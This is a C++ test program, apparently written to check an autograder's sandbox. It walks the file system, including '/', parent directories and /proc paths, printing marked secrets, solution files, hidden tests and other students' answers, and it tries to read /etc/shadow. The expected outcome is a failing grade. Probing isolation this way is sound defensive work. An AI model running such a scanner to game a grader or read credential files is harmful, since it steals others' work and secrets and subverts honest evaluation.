// Looks through the whole file system for solutions, hidden tests, other students' answers and secrets, and prints
// them. Attacks: what must stay secret Expects: wrong, 0 points Seen: it ended with status 0 before that
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>

namespace fs = std::filesystem;

namespace {

void look(const fs::path& file) {
    std::ifstream stream{file, std::ios::binary};
    const std::string text{std::istreambuf_iterator<char>{stream}, {}};
    for (auto at = text.find("portlab-secret-"); at != text.npos; at = text.find("portlab-secret-", at + 1))
        std::cout << file << ' ' << text.substr(at, 60) << '\n';
    const std::string name = file.filename();
    if (name == "any_free_port_test.cpp" || file.string().find("solutions/") != std::string::npos)
        std::cout << "portlab-secret-file " << file << '\n';
}

void look_below(const fs::path& top, int depth) {
    std::error_code none;
    for (const auto& entry : fs::directory_iterator{top, fs::directory_options::skip_permission_denied, none}) {
        const std::string name = entry.path();
        if (entry.is_symlink(none) || name == "/proc" || name == "/sys" || name == "/usr")
            continue;
        if (entry.is_directory(none) && depth > 0)
            look_below(entry.path(), depth - 1);
        else if (entry.is_regular_file(none) && entry.file_size(none) < 1'000'000)
            look(entry.path());
    }
}

} // namespace

int main() {
    for (const char* place : {"@ROOT@/solutions", "@OVERLAY@", "@RESULTS@", "@CLASS@", "/", "..", "/proc/1/root/",
                              "/proc/1/cwd", "/proc/self/cwd/.."})
        look_below(place, 6);
    for (const char* file : {"/etc/shadow", "@ROOT@/tests/exercises/02_bind/any_free_port_test.cpp"})
        look(file);
}
